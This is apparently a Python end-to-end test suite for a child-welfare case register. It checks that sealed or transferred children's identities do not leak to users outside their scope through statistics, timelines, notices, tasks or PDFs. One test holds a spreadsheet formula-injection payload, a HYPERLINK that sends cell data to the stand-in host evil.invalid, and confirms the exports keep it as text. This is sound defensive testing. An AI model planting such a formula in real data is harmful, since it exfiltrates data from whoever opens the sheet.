"""The case file, register, lifecycle, imports and statistics added with v1.1, probed as a hostile but authorised
user would, over HTTP against a real server. Each test here failed when written; the expected values come from
the disclosure table of DESIGN.md §1 Privacy and API.md v1.1 "What a withheld fact looks like", not from the code."""

from __future__ import annotations

import io
from datetime import UTC, datetime, timedelta
from typing import Any

from pypdf import PdfReader

from projections.personal_file import FONT_PATHS
from tests.conftest import require_service
from tests.e2e.conftest import World, child_body
from tests.e2e.console.client import signed_in
from tests.e2e.server import sub

SEALED_VILLAGE = "520302/001/004/07"
"""A village of its own, so that the statistics of its scope hold only what these tests put there."""


def _report(world: World, **fields: Any) -> dict[str, Any]:
    body = dict(source="sentinel", reporter={"role": "manager"}, description="网吧发现", jurisdiction=SEALED_VILLAGE)
    answer = world.as_("county").post("/api/v1/reports", sub(**(body | fields)))
    assert answer.status_code == 201, answer.text
    return dict(answer.json())


def test_statistics_by_sentinel_place_and_institution_never_count_a_report_about_a_sealed_child(world: World) -> None:
    """A report about a sealed child is, in the register, as if it were not there for anyone but an auditor; the
    statistics of the same reports must not name its sentinel place (with "<5") nor count it by institution, or a
    supervisor learns that a sealed matter was reported there (table: sealed matters ✘ supervisor, ✔ auditor)."""
    child = world.as_("county").post("/api/v1/children", child_body(
        f"{SEALED_VILLAGE}/01", categories=["left_behind", "serious_misconduct"])).json()["child_id"]
    received = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=2)
    _report(world, child_id=child, reporter_institution="internet_cafe", sentinel_place="SEALED-PLACE 星空网吧",
            occurred_at=received.isoformat())
    sealed = world.as_("county").post(f"/api/v1/children/{child}/seal", sub(reason="法院封存决定"))
    assert sealed.status_code == 201, sealed.text
    period = {"jurisdiction": SEALED_VILLAGE, "from": (received - timedelta(days=1)).isoformat(),
              "to": (received + timedelta(hours=3)).isoformat()}

    assert world.as_("supervisor").get("/api/v1/reports", source="sentinel").json()["items"] == []
    tables = world.as_("supervisor").get("/api/v1/stats/summary", **period).json()["tables"]
    assert "SEALED-PLACE" not in str(tables)
    assert tables["reports_by_sentinel_place"]["rows"] == []
    by_institution = {row[1]: row[2] for row in tables["reports_by_institution"]["rows"]}
    assert by_institution["internet_cafe"] == 0
    assert {row[1]: row[2] for row in tables["report_timeliness"]["rows"]}["all"] == 0

    audited = world.as_("auditor").get("/api/v1/stats/summary", **period).json()["tables"]
    assert audited["reports_by_sentinel_place"]["rows"] == [["SEALED-PLACE 星空网吧", "internet_cafe", 1]]
    assert {row[1]: row[2] for row in audited["reports_by_institution"]["rows"]}["internet_cafe"] == 1


FORMULA_PLACE = '=HYPERLINK("http://evil.invalid/?"&A1,"哨点")'
"""A sentinel place as a hostile reporter may type it: text a spreadsheet program would run as a formula."""


def test_a_sentinel_place_typed_as_a_formula_stays_text_in_the_statistics_downloads(world: World) -> None:
    """The statistics downloads name sentinel places as reporters typed them. Opened in a spreadsheet program, a
    cell that starts with `=` must stay text, as the roster export keeps it (OWASP CSV injection): in the XLSX a
    string cell, in the CSV the text with a leading apostrophe, which spreadsheet programs read as "text follows"."""
    import csv
    import io

    from openpyxl import load_workbook

    village = "520302/001/004/08"
    received = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=1)
    for _ in range(5):
        _report(world, jurisdiction=village, reporter_institution="internet_cafe", sentinel_place=FORMULA_PLACE,
                occurred_at=received.isoformat())
    period = {"jurisdiction": village, "from": (received - timedelta(days=1)).isoformat(),
              "to": (received + timedelta(hours=2)).isoformat()}
    supervisor = world.as_("supervisor")

    xlsx = supervisor.get("/api/v1/stats/summary", **period, format="xlsx")
    assert xlsx.status_code == 200, xlsx.text
    sheet = load_workbook(io.BytesIO(xlsx.content))["reports_by_sentinel_place"]
    place = sheet.cell(row=3, column=1)
    assert (place.value, place.data_type) == (FORMULA_PLACE, "s")

    text = supervisor.get("/api/v1/stats/summary", **period, format="csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert ["'" + FORMULA_PLACE, "internet_cafe", "5"] in rows
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row if cell)


def test_a_merged_record_does_not_name_a_kept_child_that_left_the_readers_scope(world: World) -> None:
    """API.md v1.1: a child outside the caller's scope is 404 everywhere and its id is given only in scope (409
    duplicate_child gives only the county otherwise); a merged record must not hand out the kept child's id once
    that child was transferred out of the reader's scope."""
    county, supervisor = world.as_("county"), world.as_("supervisor")
    place = "520302/001/003/10"
    duplicate = county.post("/api/v1/children", child_body(place)).json()["child_id"]
    kept = county.post("/api/v1/children", child_body(place)).json()["child_id"]
    merged = county.post(f"/api/v1/children/{kept}/merge", sub(duplicate_child_id=duplicate, note="同一人"))
    assert merged.status_code == 201, merged.text
    moved = county.post(f"/api/v1/children/{kept}/transfer", sub(to_jurisdiction="520302/002/001", reason="搬家"))
    assert moved.status_code == 201, moved.text
    assert supervisor.get(f"/api/v1/children/{kept}").status_code == 404

    answers = [supervisor.get(f"/api/v1/children/{duplicate}"),
               supervisor.get(f"/api/v1/children/{duplicate}/timeline"),
               supervisor.post(f"/api/v1/children/{duplicate}/reopen", sub(reason="误合并")),
               supervisor.post(f"/api/v1/children/{world.child_a}/merge", sub(duplicate_child_id=duplicate, note="n"))]
    assert [a.status_code for a in answers] == [200, 200, 409, 409]
    assert [kept in a.text for a in answers] == [False, False, False, False]


OUT_OF_SIGHT = "merged_into:out_of_scope"
"""How an answer says that it names another child the reader may not see (API.md v1.1: withheld, said so)."""


def _merged_then_moved(world: World, place: str) -> tuple[str, str]:
    """A duplicate record merged into a kept child, and the kept child then transferred to town B: (duplicate, kept)."""
    county = world.as_("county")
    duplicate = county.post("/api/v1/children", child_body(place)).json()["child_id"]
    kept = county.post("/api/v1/children", child_body(place)).json()["child_id"]
    merged = county.post(f"/api/v1/children/{kept}/merge", sub(duplicate_child_id=duplicate, note="同一人"))
    assert merged.status_code == 201, merged.text
    moved = county.post(f"/api/v1/children/{kept}/transfer", sub(to_jurisdiction="520302/002/001/01", reason="搬家"))
    assert moved.status_code == 201, moved.text
    return duplicate, kept


def _timeline_item(answer: Any, kind: str) -> dict[str, Any]:
    (item,) = [i for i in answer.json()["items"] if i["kind"] == kind]
    return dict(item)


def test_no_route_names_a_kept_child_that_left_the_readers_scope(world: World) -> None:
    """Every exit that shows a merged record (status, caseload, sync, timeline, history, as-of, a 409's extra, the
    personal file, the console) asks one rule: the kept child's id only to a reader who may see that child; else
    `merged_into` is null and `withheld` says it was left out. The county supervisor, who sees both, gets the id."""
    place = "520302/001/003/11"
    duplicate, kept = _merged_then_moved(world, place)
    supervisor, county = world.as_("supervisor"), world.as_("county")
    assert supervisor.get(f"/api/v1/children/{kept}").status_code == 404

    status = supervisor.get(f"/api/v1/children/{duplicate}").json()
    assert (status["case_status"], status["closure_reason"], status["merged_into"]) == ("closed", "duplicate", None)
    assert OUT_OF_SIGHT in status["withheld"]
    closure = _timeline_item(supervisor.get(f"/api/v1/children/{duplicate}/timeline"), "closure")
    assert closure["data"]["merged_into"] is None and OUT_OF_SIGHT in closure["withheld"]
    (closed,) = [e for e in supervisor.get(f"/api/v1/audit/children/{duplicate}/history").json()["items"]
                 if e["type"] == "CaseClosed"]
    assert closed["data"]["merged_into"] is None
    reopen = supervisor.post(f"/api/v1/children/{duplicate}/reopen", sub(reason="误合并"))
    assert (reopen.status_code, reopen.json()["code"]) == (409, "already_merged")
    assert reopen.json()["extra"] == {"merged_into": None, "withheld": [OUT_OF_SIGHT]}
    answers = {
        "caseload": supervisor.get("/api/v1/children", jurisdiction=place),
        "sync": supervisor.get("/api/v1/sync", limit=500),
        "history": supervisor.get(f"/api/v1/audit/children/{duplicate}/history"),
        "as-of": supervisor.get(f"/api/v1/audit/children/{duplicate}/as-of", at=datetime.now(UTC).isoformat()),
        "visit after closure": supervisor.post("/api/v1/visits", sub(
            child_id=duplicate, occurred_at=datetime.now(UTC).isoformat(), visit_type="home", child_seen=True,
            guardian_present=True, geo={"lat": 27.7, "lon": 106.9, "accuracy_m": 10}, photos=[], notes="",
            observations={"living_conditions": "", "state_of_mind": "", "needs": "", "problems": ""})),
    }
    assert answers["visit after closure"].json()["code"] == "child_closed"
    console = signed_in(world.base, "supervisor")
    try:
        answers["console"] = console.get(f"/console/children/{duplicate}")
    finally:
        console.close()
    assert {name: (a.status_code < 500, kept in a.text) for name, a in answers.items()} == {
        name: (True, False) for name in answers}
    listed = [c for c in answers["caseload"].json()["items"] if c["child_id"] == duplicate]
    synced = [c for c in answers["sync"].json()["children"] if c["child_id"] == duplicate]
    assert [(c["merged_into"], OUT_OF_SIGHT in c["withheld"]) for c in listed + synced] == [(None, True)] * 2

    seen = county.get(f"/api/v1/children/{duplicate}").json()
    assert (seen["merged_into"], OUT_OF_SIGHT in seen["withheld"]) == (kept, False)
    assert _timeline_item(county.get(f"/api/v1/children/{duplicate}/timeline"), "closure")["data"]["merged_into"] == kept
    refused = county.post(f"/api/v1/children/{duplicate}/reopen", sub(reason="误合并"))
    assert refused.json()["extra"] == {"merged_into": kept}


def test_the_personal_file_of_a_merged_record_does_not_name_a_kept_child_out_of_sight(world: World) -> None:
    """The PDF (its text read back) holds the merged record and not the id of its kept child in another town."""
    if not any(path.exists() for path in FONT_PATHS):
        require_service("a CJK font", "install fonts-wqy-microhei (make test does, as root)")
    duplicate, kept = _merged_then_moved(world, "520302/001/003/12")
    answer = world.as_("supervisor").get(f"/api/v1/children/{duplicate}/file.pdf")
    assert answer.status_code == 200, answer.text
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(answer.content)).pages)
    assert "王小明" in text
    assert kept not in text and kept.replace("-", "") not in text.replace("-", "").replace("\n", "")


def test_a_kept_child_in_another_town_does_not_name_its_merged_duplicate_to_a_handler_there(world: World) -> None:
    """The other way round: the kept child's own record names the duplicate it absorbed (`duplicate_child_id`). Town
    B's police handler sees the kept child while a police referral is open for it, and not the duplicate left in
    town A: its id is withheld from the timeline and from the merge's 409."""
    duplicate, kept = _merged_then_moved(world, "520302/001/003/13")
    referral = world.as_("county").post("/api/v1/referrals", sub(child_id=kept, to_department="police", reason="疑似受侵害",
                                                                 urgency="normal", occurred_at=datetime.now(UTC).isoformat()))
    assert referral.status_code == 201, referral.text
    police_b = world.as_("police_b")
    assert police_b.get(f"/api/v1/children/{duplicate}").status_code == 404
    timeline = police_b.get(f"/api/v1/children/{kept}/timeline")
    assert timeline.status_code == 200, timeline.text
    merge = _timeline_item(timeline, "merge")
    assert merge["data"]["duplicate_child_id"] is None and "duplicate_child_id:out_of_scope" in merge["withheld"]
    assert duplicate not in timeline.text
    assert _timeline_item(timeline, "referral")["data"]["child_id"] == kept  # the child they see is named
    shown = world.as_("county").get(f"/api/v1/children/{kept}/timeline")
    assert _timeline_item(shown, "merge")["data"]["duplicate_child_id"] == duplicate


def test_a_sealed_kept_child_in_the_readers_scope_is_still_named(world: World) -> None:
    """A sealing order hides facts about a child, not the child: a merged record still names its sealed kept child
    to a supervisor of the town, who sees that child (with its sealed facts withheld)."""
    county, supervisor = world.as_("county"), world.as_("supervisor")
    place = "520302/001/003/14"
    duplicate = county.post("/api/v1/children", child_body(place)).json()["child_id"]
    kept = county.post("/api/v1/children", child_body(place, categories=["serious_misconduct"])).json()["child_id"]
    assert county.post(f"/api/v1/children/{kept}/merge", sub(duplicate_child_id=duplicate, note="n")).status_code == 201
    assert county.post(f"/api/v1/children/{kept}/seal", sub(reason="法院封存决定")).status_code == 201
    status = supervisor.get(f"/api/v1/children/{duplicate}").json()
    assert (status["merged_into"], OUT_OF_SIGHT in status["withheld"]) == (kept, False)
    refused = supervisor.post(f"/api/v1/children/{duplicate}/reopen", sub(reason="误合并")).json()
    assert refused["extra"] == {"merged_into": kept}


def _register(world: World, user: str, report_id: str) -> dict[str, Any]:
    """The report's line in the user's register (paged through to the end)."""
    cursor = None
    while True:
        page = world.as_(user).get("/api/v1/reports", limit=500, **({"cursor": cursor} if cursor else {})).json()
        found = [r for r in page["items"] if r["report_id"] == report_id]
        if found or page["next_cursor"] is None:
            assert len(found) == 1, page
            return dict(found[0])
        cursor = page["next_cursor"]


def test_the_report_register_does_not_name_a_child_that_left_the_readers_scope(world: World) -> None:
    """A report made in town A stays in town A's register, but the child it is about, transferred to town B since,
    no longer exists for town A: the line keeps the report and leaves out the child's id, saying so."""
    county = world.as_("county")
    place = "520302/001/003/15"
    child = county.post("/api/v1/children", child_body(place)).json()["child_id"]
    received = county.post("/api/v1/reports", sub(source="hotline", reporter={"role": "neighbour"}, description="邻居反映",
                                                 jurisdiction=place, child_id=child,
                                                 occurred_at=datetime.now(UTC).isoformat()))
    assert received.status_code == 201, received.text
    report_id = received.json()["report_id"]
    assert _register(world, "supervisor", report_id)["child_id"] == child
    moved = county.post(f"/api/v1/children/{child}/transfer", sub(to_jurisdiction="520302/002/001/01", reason="搬家"))
    assert moved.status_code == 201, moved.text

    line = _register(world, "supervisor", report_id)
    assert (line["child_id"], line["withheld"]) == (None, ["child_id:out_of_scope"])
    assert child not in world.as_("supervisor").get("/api/v1/reports", limit=500).text
    assert _register(world, "county", report_id)["child_id"] == child


def _notifications(world: World, user: str) -> Any:
    answer = world.as_(user).get("/api/v1/me/notifications", limit=500)
    assert answer.status_code == 200, answer.text
    return answer


def test_a_notice_about_a_child_who_left_the_readers_scope_no_longer_shows_that_child(world: World) -> None:
    """A red grading is told to the supervisors of the child's town; once the child is transferred to another town
    it no longer exists for the town's supervisor. The notice stays in their inbox (they were told, and may have
    read it), but without the child's name, place or id, and says so; the county supervisor still sees all of it."""
    county = world.as_("county")
    place = "520302/001/003/16"
    child = county.post("/api/v1/children", child_body(place, name="迁出的孩子")).json()["child_id"]
    graded = county.post(f"/api/v1/children/{child}/risk-assessments", sub(level="red", reasons=["受伤"]))
    assert graded.status_code == 201, graded.text
    (told,) = [n for n in _notifications(world, "supervisor").json()["items"] if n["child_id"] == child]
    assert told["kind"] == "red_graded" and "迁出的孩子" in told["title"]
    moved = county.post(f"/api/v1/children/{child}/transfer", sub(to_jurisdiction="520302/002/001/01", reason="搬家"))
    assert moved.status_code == 201, moved.text

    inbox = _notifications(world, "supervisor")
    (kept,) = [n for n in inbox.json()["items"] if n["notification_id"] == told["notification_id"]]
    assert (kept["kind"], kept["child_id"], kept["withheld"]) == ("red_graded", None, ["child_id:out_of_scope"])
    feed = world.as_("supervisor").get("/api/v1/sync", limit=500)
    for answer in (inbox, feed):
        assert child not in answer.text and "迁出的孩子" not in answer.text and place not in answer.text
    (still,) = [n for n in _notifications(world, "county").json()["items"] if n["notification_id"] == told["notification_id"]]
    assert (still["child_id"], still["title"], still["withheld"]) == (child, told["title"], [])


def test_a_triage_task_does_not_name_a_child_who_left_the_readers_scope(world: World) -> None:
    """An untriaged report stays the town's to triage (its own place decides), but the child it names, transferred
    away since, is not named in the town's worklist (API, sync feed, console)."""
    county = world.as_("county")
    place = "520302/001/003/17"
    child = county.post("/api/v1/children", child_body(place)).json()["child_id"]
    received = county.post("/api/v1/reports", sub(source="hotline", reporter={"role": "neighbour"}, description="邻居反映",
                                                 jurisdiction=place, child_id=child,
                                                 occurred_at=datetime.now(UTC).isoformat()))
    report_id = received.json()["report_id"]
    moved = county.post(f"/api/v1/children/{child}/transfer", sub(to_jurisdiction="520302/002/001/01", reason="搬家"))
    assert moved.status_code == 201, moved.text

    tasks = world.as_("supervisor").get("/api/v1/me/tasks", kind="report_triage", limit=500)
    (task,) = [t for t in tasks.json()["items"] if t.get("report_id") == report_id]
    assert (task["child_id"], task["withheld"]) == (None, ["child_id:out_of_scope"])
    console = signed_in(world.base, "supervisor")
    try:
        worklist = console.get("/console/")
    finally:
        console.close()
    for answer in (tasks, world.as_("supervisor").get("/api/v1/sync", limit=500), worklist):
        assert answer.status_code == 200 and child not in answer.text
    (seen,) = [t for t in county.get("/api/v1/me/tasks", kind="report_triage", limit=500).json()["items"]
               if t.get("report_id") == report_id]
    assert (seen["child_id"], seen["withheld"]) == (child, [])


def test_a_report_triaged_to_another_child_does_not_name_the_first_child_once_it_left_the_readers_scope(
        world: World) -> None:
    """A report received about one child and triaged to another is in the second child's case file; the first
    child, transferred to town B since, is named in that file (timeline, history, console) only to those who see it."""
    county, supervisor = world.as_("county"), world.as_("supervisor")
    place = "520302/001/003/18"
    first = county.post("/api/v1/children", child_body(place)).json()["child_id"]
    second = county.post("/api/v1/children", child_body(place)).json()["child_id"]
    received = county.post("/api/v1/reports", sub(source="hotline", reporter={"role": "neighbour"}, description="邻居反映",
                                                 jurisdiction=place, child_id=first,
                                                 occurred_at=datetime.now(UTC).isoformat()))
    triaged = county.post(f"/api/v1/reports/{received.json()['report_id']}/triage",
                          sub(child_id=second, decision="monitor"))
    assert triaged.status_code == 201, triaged.text
    moved = county.post(f"/api/v1/children/{first}/transfer", sub(to_jurisdiction="520302/002/001/01", reason="搬家"))
    assert moved.status_code == 201, moved.text

    timeline = supervisor.get(f"/api/v1/children/{second}/timeline")
    report = _timeline_item(timeline, "report")
    assert (report["data"]["child_id"], report["withheld"]) == (None, ["child_id:out_of_scope"])
    console = signed_in(world.base, "supervisor")
    try:
        page = console.get(f"/console/children/{second}")
    finally:
        console.close()
    for answer in (timeline, supervisor.get(f"/api/v1/audit/children/{second}/history"), page):
        assert answer.status_code == 200 and first not in answer.text
    assert _timeline_item(county.get(f"/api/v1/children/{second}/timeline"), "report")["data"]["child_id"] == first
